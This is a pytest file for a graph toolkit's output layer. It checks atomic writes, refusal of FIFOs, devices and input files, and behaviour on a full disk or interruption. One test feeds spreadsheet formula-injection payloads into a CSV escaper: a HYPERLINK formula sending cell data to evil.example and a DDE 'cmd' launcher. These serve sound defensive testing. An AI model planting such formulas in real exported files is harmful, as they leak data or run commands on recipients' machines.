"""Outputs are never lost nor misdirected: written whole or not at all, through symlinks, never over a
device, a FIFO or an input; a full disk (``RLIMIT_FSIZE``) or Ctrl-C at any moment leaves the previous file."""
from __future__ import annotations

import csv
import io
import json
import os
import random
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from graphkit.outputs import OutputRefused, atomic_write, escape_csv_cell, forget_inputs, note_input
from graphkit.records_file import write_records

REPO = Path(__file__).resolve().parents[1]


def _write(path, text="new content"):
    with atomic_write(path) as f:
        f.write(text)


def _names(d: Path) -> list[str]:
    return sorted(p.name for p in d.iterdir())


def test_symlink_output_is_written_through_to_its_target(tmp_path):
    real = tmp_path / "real" / "view.html"
    real.parent.mkdir()
    real.write_text("old")
    link = tmp_path / "view.html"
    link.symlink_to(real)
    _write(link)
    assert link.is_symlink() and os.readlink(link) == str(real)
    assert real.read_text() == "new content"
    assert _names(real.parent) == ["view.html"] and _names(tmp_path) == ["real", "view.html"]


def test_dangling_symlink_output_creates_its_target(tmp_path):
    link = tmp_path / "out.json"
    link.symlink_to(tmp_path / "target.json")
    _write(link, "{}")
    assert link.is_symlink() and (tmp_path / "target.json").read_text() == "{}"


def test_fifo_output_is_refused_without_hanging_or_replacing_it(tmp_path):
    fifo = tmp_path / "graph.graphml"
    os.mkfifo(fifo)
    with pytest.raises(OutputRefused) as exc:
        _write(fifo)
    assert exc.value.filename == str(fifo) and "FIFO" in exc.value.strerror
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert _names(tmp_path) == ["graph.graphml"]  # no temp left


def test_device_output_is_refused_and_the_device_kept(tmp_path):
    before = os.stat("/dev/null")
    with pytest.raises(OutputRefused) as exc:
        _write("/dev/null")
    assert "character device" in exc.value.strerror
    after = os.stat("/dev/null")
    assert stat.S_ISCHR(after.st_mode) and (after.st_ino, after.st_rdev) == (before.st_ino, before.st_rdev)
    # also through a symlink to the device
    link = tmp_path / "out.txt"
    link.symlink_to("/dev/null")
    with pytest.raises(OutputRefused):
        _write(link)
    assert _names(tmp_path) == ["out.txt"]


def test_directory_output_is_refused(tmp_path):
    (tmp_path / "d").mkdir()
    with pytest.raises(OutputRefused) as exc:
        _write(tmp_path / "d")
    assert "directory" in exc.value.strerror
    assert _names(tmp_path) == ["d"]


def test_an_input_is_never_written_over(tmp_path):
    corpus = tmp_path / "corpus.jsonl"
    corpus.write_text('{"id": "a", "text": "Anna Berg met Karl Holm."}\n')
    with pytest.raises(OutputRefused) as exc:
        with atomic_write(corpus, inputs=[corpus]) as f:
            f.write("records")
    assert "input" in exc.value.strerror
    try:
        note_input(corpus)
        with pytest.raises(OutputRefused):
            write_records([{"doc": "a", "actors": []}], corpus)  # `extract IN -o IN`
        # the same file under another name (a symlink) is the same input
        (tmp_path / "alias.jsonl").symlink_to(corpus)
        with pytest.raises(OutputRefused):
            write_records([{"doc": "a", "actors": []}], tmp_path / "alias.jsonl")
    finally:
        forget_inputs()
    assert corpus.read_text().startswith('{"id": "a", "text"')
    assert _names(tmp_path) == ["alias.jsonl", "corpus.jsonl"]


def test_replaced_file_keeps_its_mode_and_new_files_follow_the_umask(tmp_path):
    old = tmp_path / "summary.json"
    old.write_text("{}")
    old.chmod(0o640)
    _write(old, "{}")
    assert stat.S_IMODE(old.stat().st_mode) == 0o640
    umask = os.umask(0o022)
    os.umask(umask)
    _write(tmp_path / "new.json", "{}")
    assert stat.S_IMODE((tmp_path / "new.json").stat().st_mode) == 0o666 & ~umask


# ---------------------------------------------------------------------------
# a full disk and Ctrl-C, in a child process (nothing on the system changes)
# ---------------------------------------------------------------------------

_WRITER = r"""
import json, signal, sys
from graphkit.outputs import atomic_write
target, n = sys.argv[1], int(sys.argv[2])
print("ready", flush=True)
with atomic_write(target) as f:
    f.write("[")
    for i in range(n):
        f.write(("," if i else "") + json.dumps({"id": i, "name": "actor %d" % i, "pad": "x" * 200}))
    f.write("]")
"""


def _child(args, limit=None):
    def limit_file_size():
        import resource

        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # the write fails (EFBIG) instead of killing
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    env = dict(os.environ, PYTHONPATH=str(REPO))
    return subprocess.Popen([sys.executable, "-c", _WRITER, *map(str, args)], env=env, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, preexec_fn=limit_file_size if limit else None)


def test_full_disk_leaves_the_previous_good_file_and_no_temp(tmp_path):
    target = tmp_path / "graph.json"
    good = json.dumps([{"id": 0, "name": "the previous export"}])
    target.write_text(good)
    proc = _child([target, 5000], limit=64 * 1024)  # ~1 MB to write, 64 KB allowed
    out, err = proc.communicate(timeout=60)
    assert proc.returncode != 0 and "File too large" in err, err
    assert target.read_text() == good
    assert _names(tmp_path) == ["graph.json"]


def test_ctrl_c_at_a_random_moment_leaves_a_whole_file(tmp_path):
    target = tmp_path / "graph.json"
    target.write_text(json.dumps([{"id": -1}]))
    rng = random.Random(21)
    outcomes = set()
    for _ in range(6):
        proc = _child([target, 100000])
        assert proc.stdout.readline().strip() == "ready"
        time.sleep(rng.uniform(0.0, 0.4))
        proc.send_signal(signal.SIGINT)
        proc.communicate(timeout=60)
        data = json.loads(target.read_text())  # always parses: the old file or the whole new one
        assert data == [{"id": -1}] or len(data) == 100000
        outcomes.add(proc.returncode == 0)
        assert _names(tmp_path) == ["graph.json"], "temp file left behind"
    assert False in outcomes  # at least one interruption landed mid-write


def test_records_file_write_fails_whole(tmp_path):
    target = tmp_path / "records.jsonl"
    target.write_text('{"doc": "kept"}\n')

    def records():
        yield {"doc": "a", "actors": []}
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        write_records(records(), target)
    assert target.read_text() == '{"doc": "kept"}\n' and _names(tmp_path) == ["records.jsonl"]


# ---------------------------------------------------------------------------
# CSV cells for spreadsheets
# ---------------------------------------------------------------------------

@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\uff1d1+1"])
def test_formula_cells_are_escaped_and_read_back_as_text(cell):
    buf = io.StringIO()
    csv.writer(buf).writerow([escape_csv_cell(cell), escape_csv_cell(7), escape_csv_cell("Anna Berg")])
    row = next(csv.reader(io.StringIO(buf.getvalue())))
    assert row == ["'" + cell, "7", "Anna Berg"]


_RENDER = r"""
import sys
from graphkit.graph import build_graph
from graphkit.view.render import render_html
G = build_graph([{"doc": "a", "actors": [
    {"name": "Anna Berg", "type": "person", "mentions": [[0, 9, 0]]},
    {"name": "Karl Holm", "type": "person", "mentions": [[14, 23, 0]]}],
    "meetings": [{"participants": ["Anna Berg", "Karl Holm"], "kind": "meeting", "evidence": "Anna Berg met Karl Holm."}]}])
render_html(G, sys.argv[1])
"""


def test_a_render_that_fails_on_a_full_disk_keeps_the_previous_view(tmp_path):
    view = tmp_path / "view.html"
    view.write_text("<html>the previous view</html>")

    def limit_file_size():
        import resource

        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (16 * 1024, 16 * 1024))

    proc = subprocess.run([sys.executable, "-c", _RENDER, str(view)], env=dict(os.environ, PYTHONPATH=str(REPO)),
                          capture_output=True, text=True, timeout=120, preexec_fn=limit_file_size)
    assert proc.returncode != 0 and "File too large" in proc.stderr, proc.stderr
    assert view.read_text() == "<html>the previous view</html>"
    assert _names(tmp_path) == ["view.html"]  # no view.html.tmp
